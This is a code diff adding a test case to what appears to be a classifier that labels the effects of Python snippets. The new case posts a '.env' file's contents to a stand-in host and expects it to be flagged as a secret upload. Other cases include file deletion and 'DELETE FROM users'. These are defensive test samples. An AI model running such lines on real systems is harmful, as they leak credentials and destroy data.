@@ -23,6 +23,13 @@ const CASES: Readonly<Record<string, Readonly<Record<string, string[]>>>> = {
     "open('a', 'w').write('x')": ['fs.write ./a', OK],
     "open('.env').read()": ['fs.read ./.env class=secret', 'secret.read env-file', OK],
     "import requests\nrequests.post('https://x.test', json={})": ['net.fetch x.test', 'net.upload x.test', OK],
+    "import requests\nrequests.post('https://x.test', data=open('.env').read())": [
+      'net.fetch x.test',
+      'net.upload x.test source=secret',
+      'fs.read ./.env class=secret',
+      'secret.read env-file',
+      OK,
+    ],
     "conn.execute('DELETE FROM users')": ['db.rows.delete users ‹execute›', OK],
     "eval('1')": [UNSURE],
     "__import__('os').system('rm a')": ['fs.delete ./a ‹system›', OK],
